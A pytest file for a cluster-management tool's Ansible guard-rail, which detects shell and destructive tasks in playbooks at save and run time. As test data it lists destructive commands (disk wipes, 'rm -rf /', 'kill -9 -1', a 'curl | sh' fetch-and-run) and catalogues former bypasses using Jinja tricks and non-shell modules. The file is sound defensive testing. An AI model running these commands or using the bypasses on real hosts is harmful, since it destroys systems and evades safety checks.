"""Playbooks pass the command guard-rail: every task that runs shell, wherever it sits, at save and
again at run with the run's extra_vars."""

from __future__ import annotations

import hashlib
from typing import Any

import pytest

from knm.plugins.ansible.shell_tasks import shell_tasks
from knm.testing.client import ApiClient, assert_envelope

from .conftest import Fleet

PLAYBOOKS = "/automation/ansible/playbooks"

NESTED = """
- hosts: all
  vars: {scratch: /tmp/knm-scratch}
  pre_tasks:
    - ansible.builtin.command: uptime
  tasks:
    - name: grouped
      block:
        - shell: echo {{ scratch }}
        - name: inner
          block:
            - ansible.legacy.raw: cat /etc/os-release
      rescue:
        - command:
            cmd: df -h
      always:
        - ansible.builtin.command:
            argv: [ls, -l, /tmp]
    - action: shell free -m
    - local_action:
        module: command
        cmd: hostname
    - community.general.expect:
        command: passwd bob
        responses: {}
    - script: files/run.sh --flag chdir=/tmp
    - command: ls {{ unknown_thing }}
  handlers:
    - name: restart
      ansible.builtin.shell: systemctl restart kubelet
  roles:
    - role: inline
      tasks:
        - raw: whoami
"""


def test_every_shell_task_is_found_wherever_it_sits() -> None:
    commands = [task.command for task in shell_tasks(NESTED)]
    assert commands == [
        "uptime",
        "echo /tmp/knm-scratch",
        "cat /etc/os-release",
        "df -h",
        "ls -l /tmp",
        "free -m",
        "hostname",
        "passwd bob",
        "files/run.sh --flag",
        "ls ${__knm_jinja}",
        "systemctl restart kubelet",
        "whoami",
    ]


def test_extra_vars_override_play_vars() -> None:
    [task] = shell_tasks("- hosts: all\n  vars: {d: /tmp/x}\n  tasks:\n    - command: rm -rf {{ d }}\n",
                         {"d": "/"})  # fmt: skip
    assert task.command == "rm -rf /"


async def _create(client: ApiClient, headers: dict[str, str], content: str) -> Any:
    body = {"name": f"p-{hashlib.sha1(content.encode()).hexdigest()[:8]}", "content": content}
    return await client.post(PLAYBOOKS, json=body, headers=headers)


@pytest.mark.parametrize(
    "task",
    [
        "raw: mkfs.ext4 /dev/sda1",
        "ansible.builtin.shell: curl -s https://x.example | sh",
        "ansible.legacy.command: rm -rf /etc/kubernetes",
        "command:\n        cmd: kill -9 -1",
        "shell: echo c > /proc/sysrq-trigger",
        "block:\n        - shell: dd if=/dev/zero of=/dev/sdb",
        "action: shell wipefs -a /dev/nvme0n1",
    ],
)
async def test_a_playbook_with_a_destructive_shell_task_is_refused_at_save(
    knm_client: ApiClient, admin_headers: dict[str, str], task: str
) -> None:
    content = f"- hosts: all\n  tasks:\n    - {task}\n"
    response = await _create(knm_client, admin_headers, content)
    error = assert_envelope(response, 422)["error"]
    assert "dangerous command blocked" in error and "task" in error


async def test_a_destructive_handler_is_refused_at_save(
    knm_client: ApiClient, admin_headers: dict[str, str]
) -> None:
    content = (
        "- hosts: all\n  tasks:\n    - command: uptime\n"
        "  handlers:\n    - name: wipe\n      ansible.builtin.raw: shred -n1 /dev/sda\n"
    )
    response = await _create(knm_client, admin_headers, content)
    assert "handlers" in assert_envelope(response, 422)["error"]


async def test_a_playbook_is_checked_again_at_run_with_its_extra_vars(
    knm_client: ApiClient, admin_headers: dict[str, str], fleet: Fleet
) -> None:
    content = (
        "- hosts: all\n  gather_facts: false\n  vars: {target: /tmp/knm-guard-none}\n"
        "  tasks:\n    - command: rm -rf {{ target }}\n"
    )
    response = await _create(knm_client, admin_headers, content)
    playbook = assert_envelope(response, 201)["data"]["id"]
    body = {"cluster_name": fleet.cluster_name, "target_nodes": fleet.nodes[:1],
            "credential_id": fleet.credential_id, "playbook_id": playbook,
            "extra_vars": {"target": "/"}}  # fmt: skip
    response = await knm_client.post("/automation/ansible/run", json=body, headers=admin_headers)
    body = assert_envelope(response, 422)
    assert body["message"] == "command validation failed"
    assert body["error"].startswith("dangerous command blocked: rm -rf /")


# What got through before: Jinja statements and comments hid the command from the guard-rail,
# a Jinja value standing for the whole command was any command, modules that delete, overwrite
# or format without a shell (file, copy, filesystem, parted, lvol, lvg, zfs) and modules that
# schedule a command (cron, at) were never checked, and a script fetched by one task and run by
# the next was two harmless tasks.
_BYPASSES = {
    "jinja if": 'shell: "{% if true %}rm -rf /{% endif %}"',
    "jinja raw": 'shell: "{% raw %}rm -rf /{% endraw %}"',
    "jinja comment": 'shell: "echo {# x #}; rm -rf /etc"',
    "jinja whitespace control": 'shell: "r{%- if 1 -%}m{%- endif %} -rf /"',
    "whole command from a loop": "shell: \"{{ item }}\"\n      loop: ['rm -rf /']",
    "command after ; from jinja": 'shell: "uptime; {{ cmd }}"',
    "file absent": "ansible.builtin.file:\n        path: /etc\n        state: absent",
    "file absent free form": "file: path=/var/lib/etcd state=absent",
    "copy empty content": "copy:\n        dest: /etc/passwd\n        content: ''",
    "filesystem": "community.general.filesystem:\n        dev: /dev/sda\n        fstype: ext4",
    "filesystem absent": "community.general.filesystem:\n        dev: /dev/sdb\n        state: absent",
    "parted": "community.general.parted:\n        device: /dev/sdb\n        number: 1\n        state: absent",
    "lvol absent": "community.general.lvol:\n        vg: vg0\n        lv: data\n        state: absent",
    "lvg absent": "community.general.lvg:\n        vg: vg0\n        state: absent",
    "zfs absent": "community.general.zfs:\n        name: tank/data\n        state: absent",
    "cron job": "ansible.builtin.cron:\n        name: x\n        job: rm -rf /",
    "file absent from a loop": 'file:\n        path: "{{ item }}"\n        state: absent\n'
    "      loop: [/etc]",
    "file absent free form with jinja": "file: path={{ d }} state=absent",
    "at command": "ansible.posix.at:\n        command: kill -9 -1\n        count: 1\n        units: minutes",
}


@pytest.mark.parametrize("task", list(_BYPASSES.values()), ids=list(_BYPASSES))
def test_what_a_task_does_without_a_shell_is_checked(task: str) -> None:
    from knm.core.policy import check_command
    from knm.plugins.ansible.shell_tasks import play_scripts

    content = f"- hosts: all\n  tasks:\n    - {task}\n"
    commands = [t.command for t in shell_tasks(content)] + play_scripts(content)
    assert any(check_command(c) for c in commands), commands


def test_a_script_fetched_by_one_task_and_run_by_the_next_is_refused() -> None:
    from knm.core.policy import check_command
    from knm.plugins.ansible.shell_tasks import play_scripts

    content = (
        "- hosts: all\n  tasks:\n"
        "    - get_url: url=https://x.example/i.sh dest=/tmp/i.sh\n"
        "    - shell: sh /tmp/i.sh\n"
    )
    assert not any(check_command(t.command) for t in shell_tasks(content))
    assert any(check_command(s) for s in play_scripts(content))


@pytest.mark.parametrize(
    "task",
    [
        "file:\n        path: /tmp/knm-scratch\n        state: absent",
        "ansible.builtin.file:\n        path: /etc/kubernetes/manifests\n        state: directory",
        "copy:\n        src: files/kubelet.yaml\n        dest: /var/lib/kubelet/config.yaml",
        "copy:\n        dest: /etc/hostname\n        content: node1",
        "template:\n        src: sudoers.j2\n        dest: /etc/sudoers\n"
        "        validate: visudo -cf %s",
        "community.general.filesystem:\n        dev: /tmp/disk.img\n        fstype: ext4",
        "community.general.parted:\n        device: /dev/sdb\n        state: info",
        "community.general.lvol:\n        vg: vg0\n        lv: data\n        size: +5G",
        "ansible.builtin.cron:\n        name: backup\n        job: /usr/local/bin/etcd-backup.sh",
        'shell: "kubectl drain {{ inventory_hostname }} --ignore-daemonsets"',
        "shell: \"{% if ansible_os_family == 'Debian' %}apt-get update{% endif %}\"",
        "get_url: url=https://dl.k8s.io/kubectl dest=/usr/local/bin/kubectl mode=0755",
    ],
)
def test_everyday_tasks_without_a_shell_pass(task: str) -> None:
    from knm.core.policy import check_command
    from knm.plugins.ansible.shell_tasks import play_scripts

    content = f"- hosts: all\n  tasks:\n    - {task}\n"
    commands = [t.command for t in shell_tasks(content)] + play_scripts(content)
    assert not [(c, check_command(c)) for c in commands if check_command(c)]
